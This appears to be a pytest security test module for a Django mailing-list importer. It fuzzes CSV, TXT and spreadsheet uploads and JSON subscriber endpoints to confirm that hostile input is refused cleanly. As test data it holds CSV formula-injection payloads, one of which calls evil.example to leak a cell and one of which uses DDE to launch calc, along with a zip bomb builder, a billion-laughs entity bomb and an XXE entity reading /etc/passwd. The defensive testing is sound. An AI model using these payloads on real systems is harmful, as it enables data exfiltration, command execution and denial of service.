"""Hostile import files: whatever the bytes, the parser returns rows or refuses the file with its
own clear ImportFileError, never another exception and never by unpacking a bomb into memory; and
through the API and the browser wizard a bad file is a 400 or a form error, never a 500.
"""

import csv
import io
import json
import struct
import tempfile
import tracemalloc
import zipfile
import zlib
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given, reject, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from rest_framework.exceptions import ParseError

from config.parsers import JSONParser
from lists import parsers
from lists.models import ImportJob, ImportStatus, Subscriber
from lists.parsers import ImportFileError, check_file, detect_format, open_table
from lists.services.imports import import_run
from tests.lists.factories import MailingListFactory
from tests.security.conftest import FUZZ, FUZZ_VIEWS

MB = 1024 * 1024
FIXTURES = Path(__file__).parent.parent / "lists" / "files"
XLSX = (FIXTURES / "sheet.xlsx").read_bytes()
XLS = (FIXTURES / "sheet.xls").read_bytes()

# Cells a spreadsheet would run as formulas, and other classics of CSV files made to hurt.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://127.0.0.1:1/leak")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
]


def read_or_refuse(path: Path, filename: str) -> tuple[list[str], list] | str:
    """Read `path` as an import would. Returns (header, rows) after checking what every accepted
    file guarantees, or the refusal's message; any other exception fails the test."""
    try:
        fmt = detect_format(filename=filename, path=path)
        check_file(path=path, fmt=fmt, max_bytes=50 * MB)
        with open_table(path=path, fmt=fmt) as table:
            header, rows = table.header, list(table.rows)
    except ImportFileError as refused:
        assert refused.field == "file"
        assert refused.message.strip()
        return refused.message
    numbers = [number for number, _ in rows]
    assert numbers == sorted(set(numbers))
    for _, cells in [(0, header), *rows]:
        assert cells, "blank rows are skipped"
        assert len(cells) <= parsers.MAX_COLUMNS
        for cell in cells:
            assert isinstance(cell, str)
            assert cell == cell.strip()
            assert "\x00" not in cell  # PostgreSQL could not store it
            assert len(cell) <= parsers.MAX_CELL_CHARS
    for _, cells in rows:
        assert cells[-1] != "", "trailing empty cells are dropped"
    return header, rows


def read_bytes(content: bytes, filename: str) -> tuple[list[str], list] | str:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / filename
        path.write_bytes(content)
        return read_or_refuse(path, filename)


def peak_memory(call) -> tuple[object, int]:
    """call()'s result (or the ImportFileError it raised) and the peak Python memory it took."""
    tracemalloc.start()
    try:
        try:
            result = call()
        except ImportFileError as refused:
            result = refused
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# --- text files: anything at all ------------------------------------------------------------------


@FUZZ
@given(content=st.binary(min_size=1, max_size=4096), suffix=st.sampled_from(["csv", "txt"]))
def test_any_bytes_as_a_text_file_give_rows_or_a_clear_refusal(content, suffix):
    read_bytes(content, f"list.{suffix}")


cell_text = st.one_of(
    st.text(max_size=40),  # any character, NUL, control characters and quotes included
    st.sampled_from(FORMULAS),
    st.emails(),
    st.just('"unclosed'),
    st.just("\ufeff"),
)


@FUZZ
@given(
    rows=st.lists(st.lists(cell_text, min_size=1, max_size=8), min_size=1, max_size=12),
    delimiter=st.sampled_from(list(parsers.CSV_DELIMITERS)),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1251", "latin-1", "cp1252", "utf-16"]),
    bom=st.booleans(),
    line_end=st.sampled_from(["\n", "\r\n", "\r"]),
)
def test_hostile_csv_gives_rows_or_a_clear_refusal(
    rows, delimiter, quoting, encoding, bom, line_end
):
    buffer = io.StringIO()
    writer = csv.writer(
        buffer, delimiter=delimiter, quoting=quoting, escapechar="\\", lineterminator=line_end
    )
    try:
        writer.writerows(rows)
    except csv.Error:  # QUOTE_NONE cannot write a row of one empty cell
        reject()
    content = ("\ufeff" if bom else "") + buffer.getvalue()
    outcome = read_bytes(content.encode(encoding, errors="replace"), "list.csv")
    if encoding == "utf-16":  # NUL bytes everywhere: not a text file
        assert outcome == parsers.NOT_TEXT


# No NUL, no delimiter of another kind, no BOM (a leading one is eaten as the file's): what
# remains must come back exactly as written, stripped.
roundtrip_cell = st.text(
    alphabet=st.characters(blacklist_characters="\x00,;\t|\ufeff", blacklist_categories=["Cs"]),
    max_size=30,
)
plain_email = st.emails().filter(lambda email: not set(email) & set(parsers.CSV_DELIMITERS))


@FUZZ
@given(
    data=st.lists(
        st.tuples(
            plain_email, roundtrip_cell, st.one_of(roundtrip_cell, st.sampled_from(FORMULAS))
        ),
        min_size=1,
        max_size=10,
    ),
    delimiter=st.sampled_from(list(parsers.CSV_DELIMITERS)),
)
def test_quoted_newlines_quotes_and_formulas_come_back_as_plain_text(data, delimiter):
    rows = [("email", "name", "note"), *data]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows(rows)
    outcome = read_bytes(buffer.getvalue().encode("utf-8"), "list.csv")

    expected = []
    for number, row in enumerate(data, start=2):
        cells = [cell.strip() for cell in row]
        while cells and not cells[-1]:
            cells.pop()
        expected.append((number, cells))
    assert outcome == (["email", "name", "note"], expected)


txt_line = st.one_of(
    st.text(max_size=60),
    st.emails(),
    st.builds(lambda name, email: f"{name} <{email}>", st.text(max_size=20), st.emails()),
    st.builds(lambda name, email: f'"{name}" <{email}>;', st.text(max_size=20), st.emails()),
    st.sampled_from(FORMULAS),
)


@FUZZ
@given(lines=st.lists(txt_line, min_size=1, max_size=20), line_end=st.sampled_from(["\n", "\r\n"]))
def test_hostile_txt_gives_rows_or_a_clear_refusal(lines, line_end):
    outcome = read_bytes(line_end.join(lines).encode("utf-8", errors="replace"), "list.txt")
    if not isinstance(outcome, str):
        header, rows = outcome
        assert header == ["email", "name"]
        assert all(len(cells) <= 2 for _, cells in rows)


def test_a_cell_over_the_limit_is_refused_with_its_row():
    content = b"email,name\nann@example.com," + b"x" * (parsers.MAX_CELL_CHARS + 1) + b"\n"
    assert read_bytes(content, "huge.csv") == (
        "Row 2 is longer than 1 MB; this does not look like a list of addresses."
    )


def test_a_row_of_too_many_columns_is_refused_not_shown_as_thousands_of_controls():
    header = ",".join(f"c{number}" for number in range(parsers.MAX_COLUMNS + 1))
    assert read_bytes(f"{header}\nann@example.com\n".encode(), "wide.csv") == (
        "Row 1 has 501 columns; a file of subscribers may have at most 500."
    )
    # Trailing empty cells do not count: a spreadsheet's export often pads every row.
    header, rows = read_bytes(b"email,name" + b"," * 5000 + b"\nann@example.com,Ann\n", "pad.csv")
    assert (header, rows) == (["email", "name"], [(2, ["ann@example.com", "Ann"])])


def test_a_wide_row_further_down_is_refused_while_streaming():
    wide = ",".join(["x"] * (parsers.MAX_COLUMNS + 1))
    content = f"email\nann@example.com\n{wide}\n".encode()
    assert read_bytes(content, "late.csv") == (
        "Row 3 has 501 columns; a file of subscribers may have at most 500."
    )


# --- .xlsx ----------------------------------------------------------------------------------------


def xlsx_bytes(rows: list[list[object]], *, text_cells: bool = True) -> bytes:
    """A workbook of `rows`. openpyxl writes a str starting with "=" as a formula; with
    `text_cells` such a value is stored as the text it is instead."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if text_cells:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


xlsx_value = st.one_of(
    st.none(),
    st.text(max_size=40).map(lambda text: ILLEGAL_CHARACTERS_RE.sub("", text)),
    st.sampled_from(FORMULAS),
    st.emails(),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(2100, 1, 1)),
    st.dates(min_value=date(1900, 3, 1), max_value=date(2100, 1, 1)),
)


@settings(FUZZ, max_examples=30)  # a workbook is written per example
@given(
    rows=st.lists(st.lists(xlsx_value, max_size=8), min_size=1, max_size=10),
    text_cells=st.booleans(),
)
def test_hostile_xlsx_gives_rows_or_a_clear_refusal(rows, text_cells):
    read_bytes(xlsx_bytes(rows, text_cells=text_cells), "list.xlsx")


def test_formula_cells_are_never_run_and_formula_text_is_only_text():
    formulas = [formula for formula in FORMULAS if formula.startswith("=")]
    content = xlsx_bytes(
        [["email", "name"], *(["ann@example.com", formula] for formula in formulas)],
        text_cells=False,
    )
    header, rows = read_bytes(content, "formulas.xlsx")
    # No cached result and nothing evaluates them: the cell is empty.
    assert rows == [(number, ["ann@example.com"]) for number in range(2, 2 + len(formulas))]

    header, rows = read_bytes(
        xlsx_bytes([["email", "name"], ["ann@example.com", FORMULAS[0]]]), "t.xlsx"
    )
    assert rows == [(2, ["ann@example.com", FORMULAS[0]])]


def test_an_xlsx_cell_of_excels_largest_size_is_read():
    longest = "x" * 32_767  # Excel's limit for one cell
    header, rows = read_bytes(
        xlsx_bytes([["email", "note"], ["ann@example.com", longest]]), "big.xlsx"
    )
    assert rows == [(2, ["ann@example.com", longest])]


def test_a_nul_in_an_xls_cell_is_dropped_not_left_to_stop_the_import():
    # sheet.xls keeps "Ann Lee" as 8-bit text; a NUL in its place is what a UTF-16 cell can hold.
    content = XLS.replace(b"Ann Lee", b"Ann\x00Lee")
    header, rows = read_bytes(content, "nul.xls")
    assert rows[1] == (4, ["ann@example.com", "AnnLee", "15551234567", "", "TRUE"])


@FUZZ
@given(data=st.data())
def test_damaged_spreadsheets_give_rows_or_a_clear_refusal(data):
    original, name = data.draw(st.sampled_from([(XLSX, "sheet.xlsx"), (XLS, "sheet.xls")]))
    content = bytearray(original)
    for _ in range(data.draw(st.integers(min_value=1, max_value=8))):
        position = data.draw(st.integers(min_value=0, max_value=len(content) - 1))
        content[position] ^= data.draw(st.integers(min_value=1, max_value=255))
    cut = data.draw(st.integers(min_value=8, max_value=len(content)))
    read_bytes(bytes(content[:cut]), name)


@FUZZ
@given(
    tail=st.binary(max_size=2048), magic=st.sampled_from([parsers.XLS_MAGIC, parsers.XLSX_MAGIC])
)
def test_garbage_behind_a_spreadsheets_magic_number_is_refused(tail, magic):
    name = "garbage.xls" if magic == parsers.XLS_MAGIC else "garbage.xlsx"
    assert isinstance(read_bytes(magic + tail, name), str)


# --- zip bombs and XML tricks in .xlsx ------------------------------------------------------------


def _deflated_zeros(megabytes: int) -> bytes:
    """A raw deflate stream of `megabytes` MB of zeros, made in milliseconds: one flushed block
    of a megabyte (deflate blocks after a full flush stand alone) repeated, then an empty final
    block."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, deflated data, declared unpacked size, declared CRC) members, written by
    hand so that the declared sizes can lie."""
    out, directory = io.BytesIO(), io.BytesIO()
    for name, data, size, crc in members:
        offset = out.tell()
        encoded = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        out.write(b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + data)
        # Central header: "version made by", the local fields, then name, extra and comment
        # lengths, disk, internal and external attributes, and where the local header is.
        directory.write(
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
            + encoded
        )
    start, listing = out.tell(), directory.getvalue()
    out.write(listing)
    out.write(
        b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(listing), start, 0)
    )
    return out.getvalue()


def _deflate(text: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(text) + compressor.flush()


def _xlsx_with_sheet(sheet_member: tuple[str, bytes, int, int]) -> bytes:
    """The parts of sheet.xlsx, with its first worksheet replaced by `sheet_member`."""
    members = []
    with zipfile.ZipFile(io.BytesIO(XLSX)) as source:
        for info in source.infolist():
            if info.filename == sheet_member[0]:
                members.append(sheet_member)
            else:
                data = source.read(info)
                members.append((info.filename, _deflate(data), len(data), zlib.crc32(data)))
    return _zip(members)


SHEET = "xl/worksheets/sheet1.xml"


def test_the_hand_made_zip_is_a_readable_workbook():
    """The builder the bombs use, checked on honest content: the refusals below are not about a
    broken zip."""
    xml = zipfile.ZipFile(io.BytesIO(XLSX)).read(SHEET)
    content = _xlsx_with_sheet((SHEET, _deflate(xml), len(xml), zlib.crc32(xml)))
    assert read_bytes(content, "copy.xlsx") == read_bytes(XLSX, "sheet.xlsx")


def test_a_zip_bomb_declaring_gigabytes_is_refused_from_its_directory(tmp_path):
    stream = _deflated_zeros(4000)  # 4,000 MB of zeros in about 4 MB
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_xlsx_with_sheet((SHEET, stream, 4000 * MB, 0)))
    assert path.stat().st_size < 8 * MB

    refused, peak = peak_memory(lambda: check_file(path=path, fmt="xlsx", max_bytes=50 * MB))

    assert refused.message == "This .xlsx file unpacks to more than 500 MB; it cannot be imported."
    assert peak < 1 * MB  # only the zip directory was read


def test_a_zip_bomb_lying_about_its_size_is_cut_off_at_the_size_it_declares(tmp_path):
    """Its directory says 2 KB, its stream holds 256 MB: the size checks pass, and the read ends
    in the damaged-file refusal with memory flat. 256 MB, not gigabytes: it is over ten times
    the memory bound below, so a reader that kept what it unpacked still fails, and the reader
    inflates the whole stream before it refuses (about a second of CPU per GB), so 4,000 MB cost
    this test 16 s."""
    path = tmp_path / "liar.xlsx"
    path.write_bytes(_xlsx_with_sheet((SHEET, _deflated_zeros(256), 2048, 0)))
    check_file(path=path, fmt="xlsx", max_bytes=50 * MB)

    def read():
        with open_table(path=path, fmt="xlsx") as table:
            return list(table.rows)

    refused, peak = peak_memory(read)

    assert isinstance(refused, ImportFileError)
    assert refused.message == parsers.XLSX_DAMAGED
    assert peak < 20 * MB


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lololololololololololololololololololololololol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>
</sheetData></worksheet>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row>
</sheetData></worksheet>"""


def _read_sheet_xml(tmp_path: Path, xml: bytes):
    path = tmp_path / "entities.xlsx"
    path.write_bytes(_xlsx_with_sheet((SHEET, _deflate(xml), len(xml), zlib.crc32(xml))))
    return peak_memory(lambda: read_or_refuse(path, "entities.xlsx"))


def test_an_entity_expansion_bomb_in_the_sheet_is_refused_without_expanding(tmp_path):
    outcome, peak = _read_sheet_xml(tmp_path, BILLION_LAUGHS)
    assert outcome == parsers.XLSX_DAMAGED
    assert peak < 100 * MB  # fully expanded it would be 3 GB


def test_an_external_entity_never_reads_a_local_file(tmp_path):
    outcome, _ = _read_sheet_xml(tmp_path, EXTERNAL_ENTITY)
    assert "root:" not in repr(outcome)
    assert outcome == parsers.XLSX_DAMAGED


# --- through the API and the browser --------------------------------------------------------------

hostile_upload = st.one_of(
    st.tuples(
        st.binary(min_size=1, max_size=1024), st.sampled_from(["a.csv", "a.txt", "a.xlsx", "a.xls"])
    ),
    st.tuples(
        st.sampled_from(FORMULAS).map(lambda f: f"email,name\nann@example.com,{f}\n".encode()),
        st.just("f.csv"),
    ),
    st.tuples(st.just(b"who,what\n=1+1,@x\n"), st.just("nomail.csv")),
    st.tuples(st.just(XLS.replace(b"Ann Lee", b"Ann\x00Lee")), st.just("nul.xls")),
    st.tuples(st.just(bytes(XLSX[: len(XLSX) // 3])), st.just("cut.xlsx")),
    st.tuples(st.just(b"email\n" + b"a@example.com," * 600 + b"x\n"), st.just("wide.csv")),
    st.tuples(
        st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace")), st.just("t.txt")
    ),
)


@pytest.fixture
def mailing_list(user):
    return MailingListFactory(account=user.account)


@FUZZ_VIEWS
@given(upload=hostile_upload)
def test_a_hostile_upload_through_the_api_is_202_or_a_400_saying_why(
    token_client, mailing_list, upload
):
    content, name = upload
    response = token_client.post(
        f"/api/v1/lists/{mailing_list.pk}/imports/",
        {
            "file": SimpleUploadedFile(name, content),
            "consent_source": "paper_form",
            "proof": "Signed forms, box 4 at the office",
        },
        format="multipart",
    )
    assert response.status_code in (202, 400), response.content[:300]
    body = response.json()
    if response.status_code == 400:
        assert set(body) <= {"file", "column_map"} and len(body) == 1
        assert all(isinstance(message, str) and message for message in next(iter(body.values())))
        return
    # Accepted: the worker's run ends the import either way, never on an unexpected error.
    assert import_run(import_id=body["id"]) in (ImportStatus.DONE, ImportStatus.FAILED)
    job = ImportJob.objects.get(pk=body["id"])
    assert job.failure_reason != "The import stopped on an unexpected error."


def test_a_nul_in_a_spreadsheet_cell_imports_instead_of_stopping_on_a_database_error(
    token_client, mailing_list
):
    response = token_client.post(
        f"/api/v1/lists/{mailing_list.pk}/imports/",
        {
            "file": SimpleUploadedFile("nul.xls", XLS.replace(b"Ann Lee", b"Ann\x00Lee")),
            "consent_source": "paper_form",
            "proof": "Signed forms, box 4 at the office",
        },
        format="multipart",
    )
    assert response.status_code == 202

    assert import_run(import_id=response.json()["id"]) == ImportStatus.DONE
    assert Subscriber.objects.get(email="ann@example.com").name == "AnnLee"


@FUZZ_VIEWS
@given(upload=hostile_upload)
def test_a_hostile_upload_in_the_browser_is_the_next_step_or_an_error_on_the_field(
    client, user, mailing_list, upload
):
    content, name = upload
    client.force_login(user)
    response = client.post(
        reverse("import_upload", args=[mailing_list.pk]),
        {
            "file": SimpleUploadedFile(name, content),
            "consent_source": "paper_form",
            "proof": "Signed forms, box 4 at the office",
            "consent_obtained_at": "2026-02-01",
        },
    )
    if response.status_code == 200:
        assert response.context["form"].errors["file"]
        return
    assert response.status_code == 302
    # The mapping step shows the header and first rows, or sends back with the reason.
    assert client.get(response["Location"]).status_code in (200, 302)


# --- subscriber data through the JSON API ---------------------------------------------------------

CONSENT = {"source": "paper_form", "proof": "Signed form, box 4 at the office"}
# PostgreSQL cannot store a NUL, and a lone surrogate is not text at all (no response echoing it
# can be encoded): both used to be 500s.
UNSTORABLE = {"nul": "Ann\x00Lee", "surrogate": "Ann\ud800Lee"}


def post_json(client, url: str, text: str, method: str = "POST"):
    """Send `text` as the JSON body, byte for byte (json.dumps escapes a lone surrogate)."""
    return client.generic(method, url, text.encode(), content_type="application/json")


@pytest.mark.parametrize("where", ["name", "phone", "attribute", "nested attribute", "proof"])
@pytest.mark.parametrize("bad", UNSTORABLE.values(), ids=UNSTORABLE.keys())
def test_unstorable_text_in_a_bulk_item_is_that_items_error_not_a_500(
    token_client, mailing_list, where, bad
):
    item = {"email": "ann@example.com", "consent": dict(CONSENT)}
    if where == "attribute":
        item["attributes"] = {"city": bad}
    elif where == "nested attribute":
        item["attributes"] = {"address": {"lines": ["1 Main St", bad]}}
    elif where == "proof":
        item["consent"]["proof"] = bad
    else:
        item[where] = bad
    good = {"email": "bob@example.com", "consent": CONSENT}

    response = post_json(
        token_client,
        f"/api/v1/lists/{mailing_list.pk}/subscribers/bulk/",
        json.dumps({"subscribers": [item, good]}),
    )

    if bad == UNSTORABLE["surrogate"]:
        assert response.status_code == 400
        assert response.json()["detail"].startswith("JSON parse error - a string holds a lone")
        assert not Subscriber.objects.exists()
        return
    assert response.status_code == 200
    body = response.json()
    assert body["created"] == 1
    assert body["results"][0]["status"] == "error"
    assert "Null characters are not allowed." in json.dumps(body["results"][0]["errors"])
    assert list(Subscriber.objects.values_list("email", flat=True)) == ["bob@example.com"]


@pytest.mark.parametrize("bad", UNSTORABLE.values(), ids=UNSTORABLE.keys())
def test_unstorable_attributes_are_a_400_on_add_and_on_change(token_client, mailing_list, bad):
    url = f"/api/v1/lists/{mailing_list.pk}/subscribers/"
    document = {"email": "ann@example.com", "attributes": {"city": bad}, "consent": CONSENT}
    added = post_json(token_client, url, json.dumps(document))
    assert added.status_code == 400
    assert not Subscriber.objects.exists()

    created = token_client.post(
        url, {"email": "ann@example.com", "consent": CONSENT}, format="json"
    ).json()
    changed = post_json(
        token_client, f"{url}{created['id']}/", json.dumps({"attributes": {"x": [bad]}}), "PATCH"
    )
    assert changed.status_code == 400
    assert Subscriber.objects.get().attributes == {}
    if bad == UNSTORABLE["nul"]:
        assert added.json() == {"attributes": ["Null characters are not allowed."]}
        assert changed.json() == {"attributes": ["Null characters are not allowed."]}


def test_json_nested_past_the_stack_is_a_400(token_client, mailing_list):
    response = post_json(
        token_client, f"/api/v1/lists/{mailing_list.pk}/subscribers/", "[" * 100_000
    )
    assert response.status_code == 400
    assert response.json() == {"detail": "JSON parse error - the document is nested too deeply."}


def test_a_lone_surrogate_in_a_column_map_sent_as_a_form_field_is_a_400(token_client, mailing_list):
    response = token_client.post(
        f"/api/v1/lists/{mailing_list.pk}/imports/",
        {
            "file": SimpleUploadedFile("a.csv", b"email\nann@example.com\n"),
            "consent_source": "paper_form",
            "proof": "Signed forms, box 4 at the office",
            "column_map": '{"email": 0, "\\ud800": 1}',
        },
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json() == {"column_map": ["Not valid JSON: a lone surrogate is not text."]}
    assert not ImportJob.objects.exists()


json_text = st.text(alphabet=st.characters(codec=None), max_size=20)  # NUL and surrogates too
json_documents = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | json_text,
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            json_text | st.sampled_from(["email", "name", "attributes"]), children, max_size=4
        )
    ),
    max_leaves=12,
)


@FUZZ_VIEWS
@given(
    document=st.fixed_dictionaries(
        {"email": st.emails() | json_text, "consent": st.just(CONSENT) | json_documents},
        optional={"name": json_documents, "phone": json_documents, "attributes": json_documents},
    ),
    endpoint=st.sampled_from(["subscribers/", "subscribers/bulk/"]),
)
def test_any_json_document_for_a_subscriber_is_answered_without_a_500(
    token_client, mailing_list, document, endpoint
):
    if endpoint == "subscribers/bulk/":
        document = {"subscribers": [document]}
    url = f"/api/v1/lists/{mailing_list.pk}/{endpoint}"
    response = post_json(token_client, url, json.dumps(document))
    assert response.status_code in (200, 201, 400), response.content[:300]
    for stored in Subscriber.objects.values_list("name", "phone", "attributes"):
        assert "\x00" not in json.dumps(stored, ensure_ascii=False)


def _parse(body: bytes):
    return JSONParser().parse(io.BytesIO(body), parser_context={"encoding": "utf-8"})


@FUZZ
@given(text=st.text(max_size=40), data=st.data())
def test_the_json_parser_takes_all_text_and_refuses_only_lone_surrogates(text, data):
    # json.dumps escapes every character beyond ASCII: an emoji arrives as a surrogate pair.
    assert _parse(json.dumps({"name": text}).encode()) == {"name": text}
    lone = data.draw(st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF))
    at = data.draw(st.integers(min_value=0, max_value=len(text)))
    with pytest.raises(ParseError):
        _parse(json.dumps({"name": text[:at] + lone + text[at:]}).encode())
    # A literal backslash before "ud800" is six plain characters, not a surrogate.
    assert _parse(json.dumps({"name": "\\ud800" + text}).encode()) == {"name": "\\ud800" + text}


def test_an_emoji_in_a_subscribers_name_is_stored(token_client, mailing_list):
    document = {"email": "ann@example.com", "name": "Ann \U0001f600", "consent": CONSENT}
    response = post_json(
        token_client, f"/api/v1/lists/{mailing_list.pk}/subscribers/", json.dumps(document)
    )
    assert response.status_code == 201, response.json()
    assert Subscriber.objects.get().name == "Ann \U0001f600"
